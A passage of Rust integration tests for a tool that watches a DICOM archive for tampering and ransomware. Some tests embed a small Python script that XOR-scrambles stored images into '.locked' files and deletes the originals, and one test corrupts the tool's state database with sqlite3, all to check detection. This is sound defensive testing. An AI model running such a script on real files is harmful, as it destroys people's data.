        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let image = env.path("archive/0.dcm");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    fs::copy(&sample, &image).expect("pydicom's CT_small.dcm");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let writer = "import os, sys, time\n\
        path = sys.argv[1]\n\
        data = bytearray(open(path, 'rb').read())\n\
        end = time.time() + 8\n\
        i = 0\n\
        while time.time() < end:\n\
        \x20   data[-1] = i % 256\n\
        \x20   fd = os.open(path, os.O_WRONLY | os.O_TRUNC)\n\
        \x20   os.write(fd, data)\n\
        \x20   os.close(fd)\n\
        \x20   if i == 0: print('writing', flush=True)\n\
        \x20   i += 1\n\
        \x20   time.sleep(0.03)\n";
    // The window runs from its first write, not from python3's spawn.
    let mut child = watcher::python_saying(writer, [&image], "writing");
    let seen = watcher.wait(Duration::from_secs(6), |f, _| {
        f.iter().any(|x| {
            x["path"].as_str() == image.to_str()
                && matches!(x["kind"].as_str(), Some("header-changed" | "not-inspected"))
        })
    });
    let still_writing = child.try_wait().expect("the writer").is_none();
    child.wait().expect("the writer ends");
    let (_, findings, stderr) = watcher.stop();
    assert!(
        seen && still_writing,
        "reported while the writer still wrote: {findings:#?}\n{stderr}"
    );
}

/// Review r29-watch2: files made, closed and removed without pause beside a stored
/// study (a receiver's scratch files; no rename at all) were taken for rename chains in
/// flight (a path closed there and gone again), so each stored file removed meanwhile
/// was put off a quiet period at a time and reported "after its removal was put off 3
/// times (MAX_CHAIN_DEFERRALS) while rename chains were in flight". Only a path renamed
/// into the verification and gone again is a chain in flight: these removals are
/// reported as they are, with no word of chains.
#[test]
fn removals_beside_create_and_unlink_churn_are_not_put_off_as_rename_chains() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let study = env.path("busy");
    fs::create_dir_all(&study).expect("test fixture");
    for n in 0..40 {
        fs::write(study.join(format!("{n}.dcm")), b"DICM stored").expect("test fixture");
    }
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    // Scratch files made without pause, each removed 100 files later (a few tenths of a
    // second: some are taken in as arrivals, then removed); stored files removed too,
    // one every 100 turns. The churn goes on until the watcher has reported the 20
    // stored files removed: bounded by time (5 s), a loaded machine ran fewer than 1,900
    // turns, removed fewer than 20 stored files, and the wait for 20 removals below
    // could never end; bounded by turns, the last removals could be judged with no
    // churn beside them.
    let churn = "import os, sys\n\
        d = sys.argv[1]\n\
        i = 0\n\
        while True:\n\
        \x20   p = os.path.join(d, 'scratch%d' % (i % 50))\n\
        \x20   open(p, 'wb').close()\n\
        \x20   os.unlink(p)\n\
        \x20   if i % 100 == 0 and i // 100 < 20:\n\
        \x20       os.unlink(os.path.join(d, '%d.dcm' % (i // 100)))\n\
        \x20   i += 1\n";
    let mut churning = std::process::Command::new("python3")
        .args(["-c", churn])
        .arg(&study)
        .spawn()
        .expect("python3 runs");
    let stored_removed = |f: &[Value]| {
        f.iter()
            .filter(|x| {
                x["kind"] == "removed" && x["path"].as_str().is_some_and(|p| p.ends_with(".dcm"))
            })
            .count()
    };
    let all = watcher.wait(Duration::from_secs(60), |f, _| stored_removed(f) >= 20);
    let still_churning = churning.try_wait().expect("the churn").is_none();
    let _ = churning.kill();
    let _ = churning.wait();
    assert!(still_churning, "the churn ended by itself");
    // The scratch files' removals put off, if any, come within a few quiet periods.
    std::thread::sleep(Duration::from_secs(1));
    let (_, findings, stderr) = watcher.stop();
    let gone: Vec<&Value> = findings.iter().filter(|x| x["kind"] == "removed").collect();
    assert!(all, "the removals reported: {findings:#?}\n{stderr}");
    assert!(
        gone.iter().all(|x| x["detail"]
            .as_str()
            .is_some_and(|d| !d.contains("rename chains"))),
        "no rename chain said: {gone:#?}\n{stderr}"
    );
}

/// Review r29-watch2: a new file put off at the stop as "written a moment ago"
/// (`MAX_DEFERRALS`: a study directory moved in with a file just written, no event of
/// its own) was not named by the stop's `unjudged-at-stop` warning, only by the next
/// start's catch-up (never, if none came). The stop names it with the changed files
/// still put off. (A new file held by its writer was named already: its writer wait.)
#[test]
fn a_new_file_put_off_at_the_stop_is_named_at_the_stop() {
    let env = Env::new();
    // A quiet period longer than the test: the put-off new file is not looked at again.
    configure(&env, "quiet_ms = 5000\nscrub_mb_per_s = 0\n");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    fs::write(env.path("archive/0.dcm"), b"DICM stored").expect("test fixture");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let staging = env.tree.with_file_name("staging");
    fs::create_dir_all(&staging).expect("test fixture");
    fs::write(staging.join("arriving.dcm"), b"DICM arriving").expect("test fixture");
    // Its writes' events read while it is outside the roots (dropped): only the walk of
    // the directory moved in finds it.
    std::thread::sleep(Duration::from_millis(300));
    fs::rename(&staging, env.path("archive/study")).expect("test fixture");
    let arriving = env.path("archive/study/arriving.dcm");
    std::thread::sleep(Duration::from_secs(1));
    let (_, findings, stderr) = watcher.stop();
    let said = findings.iter().any(|f| {
        f["kind"] == "not-inspected"
            && f["fields"]
                .as_array()
                .is_some_and(|a| a.iter().any(|x| x == "unjudged-at-stop"))
            && f["detail"]
                .as_str()
                .is_some_and(|d| d.contains(arriving.to_str().expect("utf-8")))
    });
    assert!(said, "{findings:#?}\n{stderr}");
}

/// Review r29-watch2: the count of a new file put off as "written a moment ago" was
/// kept when the file was removed before its next look (a scratch file, a `.part`
/// renamed away), never forgotten (`PutOffCounts`): such files filled the counts, and
/// every new file after them was judged at once, perhaps half-written, with a warning
/// that `MAX_DEFERRED_FILES` others were put off. With the capacity lowered to 1, one
/// new file put off and removed, then another: the second is put off as the first was.
#[test]
fn a_new_file_removed_while_put_off_leaves_no_count_behind() {
    let env = Env::new();
    configure(&env, "quiet_ms = 5000\nscrub_mb_per_s = 0\n");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    fs::write(env.path("archive/0.dcm"), b"DICM stored").expect("test fixture");
    env.profile(&["--policy", "append-only"]);
    let mut command = pacsguard();
    command.env("PACSGUARD_TEST_MAX_DEFERRED_FILES", "1");
    let watcher = Watcher::start_with(&env, &[], command);
    let staging = env.tree.with_file_name("staging");
    let arrive = |name: &str| {
        fs::create_dir_all(&staging).expect("test fixture");
        fs::write(staging.join("arriving.dcm"), b"DICM arriving").expect("test fixture");
        std::thread::sleep(Duration::from_millis(300));
        fs::rename(&staging, env.path(&format!("archive/{name}"))).expect("test fixture");
        env.path(&format!("archive/{name}/arriving.dcm"))
    };
    let first = arrive("study1");
    std::thread::sleep(Duration::from_millis(500));
    fs::remove_file(&first).expect("test fixture");
    std::thread::sleep(Duration::from_millis(500));
    let second = arrive("study2");
    std::thread::sleep(Duration::from_millis(500));
    let (_, findings, stderr) = watcher.stop();
    assert!(
        !findings.iter().any(|f| f["detail"]
            .as_str()
            .is_some_and(|d| d.contains("(MAX_DEFERRED_FILES)"))),
        "no count left behind: {findings:#?}\n{stderr}"
    );
    assert!(
        findings.iter().any(|f| f["detail"]
            .as_str()
            .is_some_and(|d| d.contains(second.to_str().expect("utf-8")))),
        "the second put off like the first, named at the stop: {findings:#?}\n{stderr}"
    );
}

/// Review r29-watch2, the same with the first file written to and closed instead of
/// removed: judged at its close, it kept its count too (it was taken only from a file
/// put off again or judged as quiet), and the stop named it unjudged.
#[test]
fn a_new_file_judged_at_its_close_after_a_put_off_leaves_no_count_behind() {
    let env = Env::new();
    configure(&env, "quiet_ms = 5000\nscrub_mb_per_s = 0\n");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    fs::write(env.path("archive/0.dcm"), b"DICM stored").expect("test fixture");
    env.profile(&["--policy", "append-only"]);
    let mut command = pacsguard();
    command.env("PACSGUARD_TEST_MAX_DEFERRED_FILES", "1");
    let watcher = Watcher::start_with(&env, &[], command);
    let staging = env.tree.with_file_name("staging");
    let arrive = |name: &str| {
        fs::create_dir_all(&staging).expect("test fixture");
        fs::write(staging.join("arriving.dcm"), b"DICM arriving").expect("test fixture");
        std::thread::sleep(Duration::from_millis(300));
        fs::rename(&staging, env.path(&format!("archive/{name}"))).expect("test fixture");
        env.path(&format!("archive/{name}/arriving.dcm"))
    };
    let first = arrive("study1");
    std::thread::sleep(Duration::from_millis(500));
    // Written to and closed: judged at its close (`added`), as a settled path.
    fs::OpenOptions::new()
        .append(true)
        .open(&first)
        .and_then(|mut f| std::io::Write::write_all(&mut f, b" more"))
        .expect("test fixture");
    std::thread::sleep(Duration::from_millis(500));
    let second = arrive("study2");
    std::thread::sleep(Duration::from_millis(500));
    let (_, findings, stderr) = watcher.stop();
    assert!(
        !findings.iter().any(|f| f["detail"]
            .as_str()
            .is_some_and(|d| d.contains("(MAX_DEFERRED_FILES)"))),
        "no count left behind: {findings:#?}\n{stderr}"
    );
    assert!(
        findings.iter().any(|f| f["detail"]
            .as_str()
            .is_some_and(|d| d.contains(second.to_str().expect("utf-8")))),
        "the second put off like the first, named at the stop: {findings:#?}\n{stderr}"
    );
}

/// Review r29-watch2: a writer that truncates a stored instance and writes the same bytes
/// back (python3: `O_TRUNC` and close, 0.6 s, the whole file written back, 0.6 s, for
/// 4 s), as a rewriter under load is seen between its two steps, flipped the file between
/// a 0-byte state and its recorded content, and each flip was reported (a
/// `content-changed` and a `no-longer-dicom` each way, ~8 findings). The first torn
/// state is reported; a flip between it and the recorded content again is counted, said
/// with the count; a real content change at the end is reported as ever.
#[test]
fn a_file_flipping_between_a_torn_state_and_its_content_is_reported_once_with_a_count() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let image = env.path("archive/0.dcm");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    fs::copy(&sample, &image).expect("pydicom's CT_small.dcm");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let writer = "import os, sys, time\n\
        path = sys.argv[1]\n\
        data = open(path, 'rb').read()\n\
        end = time.time() + 4\n\
        while time.time() < end:\n\
        \x20   os.close(os.open(path, os.O_WRONLY | os.O_TRUNC))\n\
        \x20   time.sleep(0.6)\n\
        \x20   open(path, 'wb').write(data)\n\
        \x20   time.sleep(0.6)\n\
        data = bytearray(data)\n\
        data[-1] ^= 0xff\n\
        open(path, 'r+b').write(data)\n";
    let status = std::process::Command::new("python3")
        .args(["-c", writer])
        .arg(&image)
        .status()
        .expect("python3 runs");
    assert!(status.success());
    let on_image = |f: &[Value], kind: &str| {
        f.iter()
            .filter(|x| x["path"].as_str() == image.to_str() && x["kind"] == kind)
            .count()
    };
    // The last change, compared with the whole content (a header change), or with a
    // torn state it was judged in (a content change from 0 bytes).
    let last_change = |x: &Value| {
        x["path"].as_str() == image.to_str()
            && (matches!(
                x["kind"].as_str(),
                Some("header-changed" | "pixel-data-changed")
            ) || x["detail"]
                .as_str()
                .is_some_and(|d| d.starts_with("content hash differs (39206 -> 39206")))
    };
    let changed = watcher.wait(Duration::from_secs(10), |f, _| f.iter().any(last_change));
    let (_, findings, stderr) = watcher.stop();
    assert!(
        changed,
        "the content change at the end reported: {findings:#?}\n{stderr}"
    );
    // Each flip was a `content-changed` "(39206 -> 0 bytes)" or "(0 -> 39206 bytes)".
    let flips = findings
        .iter()
        .filter(|x| {
            x["path"].as_str() == image.to_str()
                && x["detail"].as_str().is_some_and(|d| {
                    d.starts_with("content hash differs (0 ->") || d.contains("-> 0 bytes)")
                })
        })
        .count();
    assert!(
        on_image(&findings, "no-longer-dicom") <= 1 && flips <= 1,
        "the torn state reported once ({flips} flips): {findings:#?}\n{stderr}"
    );
    assert!(
        findings.iter().any(|x| x["path"].as_str() == image.to_str()
            && x["detail"]
                .as_str()
                .is_some_and(|d| d.contains("torn state"))),
        "the flips counted and said: {findings:#?}\n{stderr}"
    );
}

/// Review r30-watch2: a stop right after an attack (python3 writing `X.locked`, the
/// bytes garbled, and removing `X`, for 60 stored instances) left changes the watcher
/// had noticed unsaid: read but not yet due, or still queued from the event readers,
/// neither reported nor named by the stop (only the next start's catch-up told them).
/// Every change noticed is, at the stop, reported with its own finding or counted in the
/// `unjudged-at-stop` warning.
#[test]
fn a_stop_right_after_an_attack_leaves_no_change_unsaid() {
    const FILES: usize = 60;
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    let images: Vec<std::path::PathBuf> = (0..FILES)
        .map(|i| env.path(&format!("archive/{i}.dcm")))
        .collect();
    for image in &images {
        fs::copy(&sample, image).expect("pydicom's CT_small.dcm");
    }
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let encrypter = "import os, sys\n\
        print('encrypting', flush=True)\n\
        for path in sys.argv[1:]:\n\
        \x20   data = open(path, 'rb').read()\n\
        \x20   open(path + '.locked', 'wb').write(bytes(b ^ 0x5a for b in data))\n\
        \x20   os.remove(path)\n";
    let mut child = watcher::python_saying(encrypter, &images, "encrypting");
    assert!(child.wait().expect("the encrypter ends").success());
    let (_, findings, stderr) = watcher.stop();
    let warned: usize = findings
        .iter()
        .filter(|f| {
            f["fields"]
                .as_array()
                .is_some_and(|a| a.iter().any(|x| x == "unjudged-at-stop"))
        })
        .filter_map(|f| {
            f["detail"]
                .as_str()?
                .split(' ')
                .next()?
                .parse::<usize>()
                .ok()
        })
        .sum();
    let own = |path: &str| findings.iter().any(|f| f["path"].as_str() == Some(path));
    let unsaid: Vec<String> = images
        .iter()
        .flat_map(|image| {
            let image = image.to_str().expect("utf-8").to_string();
            [format!("{image}.locked"), image]
        })
        .filter(|path| !own(path))
        .collect();
    assert!(
        unsaid.len() <= warned,
        "{} of {} changes neither reported nor counted by the stop ({warned} counted): \
         {unsaid:?}\n{stderr}",
        unsaid.len(),
        2 * FILES
    );
}

/// Review r30-watch2 (seen by r30-flaky): a stored instance rewritten without pause (its
/// last byte every 50 ms) and stopped a second after its first write, with a quiet
/// period of 1 s, is not due before the stop's grace ends (20 quiet periods): it was
/// neither judged nor named at the stop. It is named by the `unjudged-at-stop` warning.
#[test]
fn a_change_not_yet_due_at_the_stop_is_named_at_the_stop() {
    let env = Env::new();
    configure(&env, "quiet_ms = 1000\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let image = env.path("archive/0.dcm");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    fs::copy(&sample, &image).expect("pydicom's CT_small.dcm");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let writer = "import sys, time\n\
        f = open(sys.argv[1], 'r+b', buffering=0)\n\
        data = bytearray(f.read())\n\
        i = 0\n\
        while True:\n\
        \x20   data[-1] = i % 256\n\
        \x20   f.seek(0)\n\
        \x20   f.write(data)\n\
        \x20   if i == 0: print('writing', flush=True)\n\
        \x20   i += 1\n\
        \x20   time.sleep(0.05)\n";
    let mut child = watcher::python_saying(writer, [&image], "writing");
    std::thread::sleep(Duration::from_secs(1));
    let (_, findings, stderr) = watcher.stop();
    let _ = child.kill();
    let _ = child.wait();
    let named = findings.iter().any(|f| {
        f["fields"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x == "unjudged-at-stop"))
            && f["detail"]
                .as_str()
                .is_some_and(|d| d.contains(image.to_str().expect("utf-8")))
    });
    assert!(named, "{findings:#?}\n{stderr}");
}

/// A stored file grown to a sparse 256 GiB after the start: its hashing (a job of the
/// workers, zeros read at memory speed) outlasts the stop's `STOP_GRACE` on any machine,
/// so the stop waits for it whatever the machine's speed. Returns its path.
fn big_file_in_flight(env: &Env) -> std::path::PathBuf {
    let big = env.path("archive/big.bin");
    fs::OpenOptions::new()
        .write(true)
        .open(&big)
        .and_then(|f| f.set_len(256 << 30))
        .expect("a sparse file");
    big
}

/// Waits until `watcher` is hashing `path`: holds it open, read past its start (its
/// `/proc` fd's position; a fanotify event's fd for the same file is never read). The
/// stop tests need a verification in flight when they signal: sent at once after the
/// write, a loaded machine had not read the event yet, the stop named the file "still
/// being written" and exited before the second signal (session 46, r46-flake, watch.rs
/// under two busy loops).
fn wait_until_hashing(watcher: &Watcher, path: &Path) -> bool {
    let fds = format!("/proc/{}/fd", watcher.child.id());
    let hashing = || {
        let Ok(entries) = fs::read_dir(&fds) else {
            return false;
        };
        entries.flatten().any(|fd| {
            let info = format!(
                "/proc/{}/fdinfo/{}",
                watcher.child.id(),
                fd.file_name().to_string_lossy()
            );
            fs::read_link(fd.path()).is_ok_and(|target| target == path)
                && fs::read_to_string(info).is_ok_and(|i| {
                    i.lines()
                        .filter_map(|l| l.strip_prefix("pos:"))
                        .any(|pos| pos.trim().parse::<u64>().is_ok_and(|p| p > 0))
                })
        })
    };
    let deadline = Instant::now() + Duration::from_secs(60);
    while Instant::now() < deadline {
        if hashing() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    false
}

/// `FILES` stored instances (pydicom's CT_small.dcm) and a small stored file, profiled.
fn store_with_a_big_file_to_be(env: &Env, files: usize) -> Vec<std::path::PathBuf> {
    configure(env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    fs::write(env.path("archive/big.bin"), b"stored").expect("test fixture");
    let images: Vec<std::path::PathBuf> = (0..files)
        .map(|i| env.path(&format!("archive/{i}.dcm")))
        .collect();
    for image in &images {
        fs::copy(&sample, image).expect("pydicom's CT_small.dcm");
    }
    env.profile(&["--policy", "append-only"]);
    images
}

/// Whether `f` is one of the stop's `unjudged-at-stop` warnings.
fn unjudged_at_stop(f: &Value) -> bool {
    f["fields"]
        .as_array()
        .is_some_and(|a| a.iter().any(|x| x == "unjudged-at-stop"))
}

/// Review r31-watch: the events read while the stop waited for its verifications in
/// flight (`STOP_GRACE`, up to 10 s) were dropped ("the next start's catch-up"): an
/// attack made during that wait (python3 writing `X.locked` and removing `X`, 30 stored
/// instances) was told by nobody at the stop, not even counted. A big file still being
/// hashed holds the wait; every change is now reported or named by the stop's
/// `unjudged-at-stop` warnings.
#[test]
fn changes_made_while_the_stop_waits_for_its_jobs_are_named_at_the_stop() {
    const FILES: usize = 30;
    let env = Env::new();
    let images = store_with_a_big_file_to_be(&env, FILES);
    let watcher = Watcher::start(&env, &[]);
    let big = big_file_in_flight(&env);
    assert!(wait_until_hashing(&watcher, &big), "{}", watcher.stderr());
    watcher.signal(nix::sys::signal::Signal::SIGTERM);
    let waiting = watcher.wait(Duration::from_secs(60), |_, err| {
        err.contains("verifications in flight")
    });
    assert!(waiting, "{}", watcher.stderr());
    let encrypter = "import os, sys\n\
        print('encrypting', flush=True)\n\
        for path in sys.argv[1:]:\n\
        \x20   data = open(path, 'rb').read()\n\
        \x20   open(path + '.locked', 'wb').write(bytes(b ^ 0x5a for b in data))\n\
        \x20   os.remove(path)\n";
    let mut child = watcher::python_saying(encrypter, &images, "encrypting");
    assert!(child.wait().expect("the encrypter ends").success());
    let mut watcher = watcher;
    let status = watcher.child.wait().expect("watch exits");
    std::thread::sleep(Duration::from_millis(200));
    let (findings, stderr) = (watcher.findings(), watcher.stderr());
    assert_eq!(status.code(), Some(1), "{stderr}");
    let warned: usize = findings
        .iter()
        .filter(|f| unjudged_at_stop(f) && f["kind"] == "not-inspected")
        .filter_map(|f| {
            f["detail"]
                .as_str()?
                .split(' ')
                .next()?
                .parse::<usize>()
                .ok()
        })
        .sum();
    let own = |path: &str| findings.iter().any(|f| f["path"].as_str() == Some(path));
    let unsaid: Vec<String> = images
        .iter()
        .flat_map(|image| {
            let image = image.to_str().expect("utf-8").to_string();
            [format!("{image}.locked"), image]
        })
        .filter(|path| !own(path))
        .collect();
    assert!(
        unsaid.len() <= warned,
        "{} of {} changes neither reported nor counted by the stop ({warned} counted): \
         {unsaid:?}\n{stderr}",
        unsaid.len(),
        2 * FILES
    );
}

/// Review r31-watch: a second stop signal while the stop waited (for the changes it
/// noticed to come due, for its verifications in flight) was "the same request" within
/// 5 s of the first, ignored: the stop still waited its whole `STOP_GRACE`; later, it
/// exited at once, status 2, without the final checkpoint and without naming what was
/// left. Now the second signal cuts the waits short: the big file still being hashed is
/// named as not verified ("cut the stop short"), the final checkpoint is signed (every
/// record covered), and the exit status is 1 for that warning.
#[test]
fn a_second_stop_signal_cuts_the_stop_short_and_still_names_what_is_left() {
    let env = Env::new();
    store_with_a_big_file_to_be(&env, 1);
    let mut watcher = Watcher::start(&env, &[]);
    let big = big_file_in_flight(&env);
    assert!(wait_until_hashing(&watcher, &big), "{}", watcher.stderr());
    watcher.signal(nix::sys::signal::Signal::SIGTERM);
    let waiting = watcher.wait(Duration::from_secs(60), |_, err| {
        err.contains("verifications in flight")
    });
    assert!(waiting, "{}", watcher.stderr());
    watcher.signal(nix::sys::signal::Signal::SIGTERM);
    let status = watcher.child.wait().expect("watch exits");
    std::thread::sleep(Duration::from_millis(200));
    let (findings, stderr) = (watcher.findings(), watcher.stderr());
    assert!(stderr.contains("now without waiting"), "{stderr}");
    let named = findings.iter().any(|f| {
        f["kind"] == "not-inspected"
            && f["path"].as_str() == big.to_str()
            && f["detail"]
                .as_str()
                .is_some_and(|d| d.contains("a second stop signal cut the stop short"))
    });
    assert!(named, "{findings:#?}\n{stderr}");
    assert_eq!(status.code(), Some(1), "{stderr}");
    let out = env.run(&["audit", "verify", "--json"]);
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    let doc: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(doc["unsigned_records"], 0, "{doc:#}");
}

/// Review r31-watch (read, reproduced in session 32): batches the event readers had
/// already brought into the loop's channel when a second stop signal cut the stop's last
/// reading short were dropped, unnamed and uncounted, and with the kernel's queue empty
/// by then the stop said nothing (exit 0). The stop is held (a debug build's hook) while
/// a python3 writer fills the channel past its room with scratch files created and
/// removed (nothing to report), and then rewrites a stored instance; the second signal
/// comes, and the hold ends. The rewritten instance is named by the stop, exit 1.
#[test]
fn batches_left_in_the_channel_at_a_hurried_stop_are_named() {
    const SCRATCH: usize = 5000;
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    let image = env.path("archive/0.dcm");
    fs::copy(&sample, &image).expect("pydicom's CT_small.dcm");
    env.profile(&["--policy", "append-only"]);
    let hold = env.home.join("test-hold");
    fs::write(&hold, b"").expect("test fixture");
    // inotify alone: fanotify's batches would take some of the channel's room, and
    // the kernel's inotify queue would overflow (a rescan of the root, said anyway).
    let mut command = inotify_only();
    command.env("PACSGUARD_TEST_HOLD_BEFORE_STOP_READ", &hold);
    let mut watcher = Watcher::start_with(&env, &[], command);
    watcher.signal(nix::sys::signal::Signal::SIGTERM);
    let held = watcher.wait(Duration::from_secs(60), |_, err| {
        err.contains("TEST HOOK: the stop holds")
    });
    assert!(held, "{}", watcher.stderr());
    // A pause now and then, so that the reader brings the events in small batches (more
    // batches than the channel's room) and the kernel's queue never overflows.
    let writer = "import os, sys, time\n\
        root, image, n = sys.argv[1], sys.argv[2], int(sys.argv[3])\n\
        print('writing', flush=True)\n\
        for i in range(n):\n\
        \x20   p = os.path.join(root, 's%d.tmp' % i)\n\
        \x20   open(p, 'wb').write(b'x')\n\
        \x20   os.remove(p)\n\
        \x20   if i % 2 == 0: time.sleep(0.001)\n\
        data = open(image, 'rb').read()\n\
        open(image, 'r+b').write(bytes(b ^ 0x5a for b in data))\n";
    let archive = env.path("archive");
    let mut child = watcher::python_saying(
        writer,
        [
            archive.as_os_str(),
            image.as_os_str(),
            std::ffi::OsStr::new(&SCRATCH.to_string()),
        ],
        "writing",
    );
    assert!(child.wait().expect("the writer ends").success());
    watcher.signal(nix::sys::signal::Signal::SIGTERM);
    let hurried = watcher.wait(Duration::from_secs(60), |_, err| {
        err.contains("now without waiting")
    });
    assert!(hurried, "{}", watcher.stderr());
    fs::remove_file(&hold).expect("test fixture");
    let status = watcher.child.wait().expect("watch exits");
    std::thread::sleep(Duration::from_millis(200));
    let (findings, stderr) = (watcher.findings(), watcher.stderr());
    let path = image.to_str().expect("utf-8");
    let named = findings.iter().any(|f| {
        f["path"].as_str() == Some(path)
            || (unjudged_at_stop(f) && f["detail"].as_str().is_some_and(|d| d.contains(path)))
    });
    assert!(named, "{findings:#?}\n{stderr}");
    assert_eq!(status.code(), Some(1), "{stderr}");
}

/// `pacsguard` without CAP_SYS_ADMIN when run as root (inotify alone), as
/// [`Watcher::start_inotify_only`] starts it.
fn inotify_only() -> std::process::Command {
    if !common::is_root() {
        return pacsguard();
    }
    let mut command = std::process::Command::new("setpriv");
    command
        .args(["--bounding-set", "-sys_admin", "--"])
        .arg(env!("CARGO_BIN_EXE_pacsguard"));
    command
}

/// Review r31-watch (read, reproduced in session 32): fanotify's reader never waits for
/// the loop; a batch it had no room for in the channel left a flag that was reported
/// only when a later batch found room, so an overflow with no write after it (at the
/// stop above all) was never said. The stop is held (a debug build's hook) while a
/// python3 writer fills the channel past its room; nothing is written after it. The
/// stop reports fanotify's lost writes (`events-lost`).
#[test]
fn a_batch_fanotify_dropped_with_none_after_it_is_said_at_the_stop() {
    if !common::is_root() {
        eprintln!("skipped: fanotify needs root");
        return;
    }
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    env.profile(&["--policy", "append-only"]);
    let hold = env.home.join("test-hold");
    fs::write(&hold, b"").expect("test fixture");
    let mut command = pacsguard();
    command.env("PACSGUARD_TEST_HOLD_BEFORE_STOP_READ", &hold);
    let mut watcher = Watcher::start_with(&env, &[], command);
    assert!(
        watcher.stderr().contains("fanotify reports"),
        "{}",
        watcher.stderr()
    );
    watcher.signal(nix::sys::signal::Signal::SIGTERM);
    let held = watcher.wait(Duration::from_secs(60), |_, err| {
        err.contains("TEST HOOK: the stop holds")
    });
    assert!(held, "{}", watcher.stderr());
    let writer = "import os, sys, time\n\
        root, n = sys.argv[1], int(sys.argv[2])\n\
        print('writing', flush=True)\n\
        for i in range(n):\n\
        \x20   p = os.path.join(root, 's%d.tmp' % i)\n\
        \x20   open(p, 'wb').write(b'x')\n\
        \x20   os.remove(p)\n\
        \x20   if i % 2 == 0: time.sleep(0.001)\n";
    let archive = env.path("archive");
    let mut child = watcher::python_saying(
        writer,
        [archive.as_os_str(), std::ffi::OsStr::new("5000")],
        "writing",
    );
    assert!(child.wait().expect("the writer ends").success());
    fs::remove_file(&hold).expect("test fixture");
    let status = watcher.child.wait().expect("watch exits");
    std::thread::sleep(Duration::from_millis(200));
    let (findings, stderr) = (watcher.findings(), watcher.stderr());
    let said = findings.iter().any(|f| {
        f["kind"] == "events-lost"
            && f["detail"]
                .as_str()
                .is_some_and(|d| d.contains("fanotify's queue overflowed and dropped write events"))
    });
    assert!(said, "{findings:#?}\n{stderr}");
    assert_eq!(status.code(), Some(1), "{stderr}");
}

/// Issue 15 (review rv38-scale, t5): a rebuild of the view on disk read only the signed
/// baseline, never what the watcher learnt since the start, so one unrelated row damaged
/// with sqlite3 by someone who can write the home made every image stored since the start
/// a file nobody knew of: encrypted, each was an `added` info; deleted, nothing. A
/// rebuild lays over the baseline the old file's rows that still verify under the run's
/// key: the stored images stay stored images, judged as without the damage.
#[test]
fn images_stored_since_the_start_stay_guarded_after_a_rebuild_of_the_view() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\nview_on_disk = true\n");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    fs::create_dir(env.path("study/stored")).expect("test fixture");
    let stored: Vec<String> = (0..6).map(|i| format!("study/stored/{i}.dcm")).collect();
    for (i, rel) in stored.iter().enumerate() {
        let mut bytes = vec![0u8; 128];
        bytes.extend_from_slice(b"DICM");
        bytes.extend((0..3_000u32).map(|b| (b.wrapping_mul(31).wrapping_add(i as u32)) as u8));
        fs::write(env.path(rel), bytes).expect("test fixture");
    }
    let arrived = watcher.wait(Duration::from_secs(60), |f, _| {
        let t = tally(f, &env.tree);
        stored
            .iter()
            .all(|rel| t.contains_key(&("added".into(), rel.clone())))
    });
    assert!(arrived, "{:#?}", watcher.findings());
    // Past the arrival grace (30 s): stored images like any other.
    std::thread::sleep(Duration::from_secs(32));
    let damaged = std::process::Command::new("sqlite3")
        .arg(env.home.join("watch-view-0.sqlite"))
        .arg(
            "UPDATE view SET mac = zeroblob(32) \
             WHERE rel = CAST('study/series/1.dcm' AS BLOB); SELECT changes();",
        )
        .output()
        .expect("sqlite3 runs (scripts/setup-test-deps.sh)");
    assert_eq!(
        String::from_utf8_lossy(&damaged.stdout).trim(),
        "1",
        "{}",
        String::from_utf8_lossy(&damaged.stderr)
    );
    // The lookup that finds the damage: that file opened for writing, closed unchanged.
    drop(
        fs::OpenOptions::new()
            .write(true)
            .open(env.path("study/series/1.dcm"))
            .expect("test fixture"),
    );
    let rebuilt = watcher.wait(Duration::from_secs(60), |f, _| {
        f.iter().any(|f| {
            f["kind"] == "watch-state-altered"
                && f["detail"]
